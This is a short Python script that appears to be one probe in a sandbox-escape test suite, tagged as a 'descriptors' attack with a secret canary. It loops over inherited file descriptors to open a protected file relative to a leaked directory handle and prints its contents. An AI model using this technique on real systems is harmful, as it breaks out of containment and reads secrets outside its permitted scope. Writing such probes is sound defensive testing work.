"""Climb out from a folder that was left open.

family: descriptors
canary: secret
stops: full, container
root: no
"""

import os

for descriptor in range(3, 1024):
    try:
        inner = os.open(os.path.basename(SECRET_FILE), os.O_RDONLY, dir_fd=descriptor)
    except OSError:
        continue
    print(os.read(inner, 1000))
